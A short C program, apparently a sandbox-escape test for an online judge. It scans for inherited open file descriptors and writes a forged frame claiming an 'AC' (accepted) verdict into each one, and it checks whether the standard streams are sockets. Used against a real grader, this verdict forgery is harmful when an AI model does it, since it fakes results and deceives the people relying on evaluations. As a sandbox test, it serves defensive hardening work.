/* Guesses descriptors that the judge may have left open, and writes forged frames into them. */
#include "attack.h"
#include <fcntl.h>
#include <signal.h>
#include <sys/socket.h>

int main(void)
{
    static const char forged[] = "\0\0\0\4done{\"verdict\":\"AC\"}";

    signal(SIGPIPE, SIG_IGN);
    for (int fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        printf("ESCAPED: descriptor %d is open\n", fd);
        fflush(stdout);
        (void)!write(fd, forged, sizeof(forged));
    }
    for (int fd = 0; fd < 3; fd++) {
        int type;
        socklen_t size = sizeof(type);

        if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size) == 0)
            escaped("a standard descriptor is a socket");
    }
    return done();
}
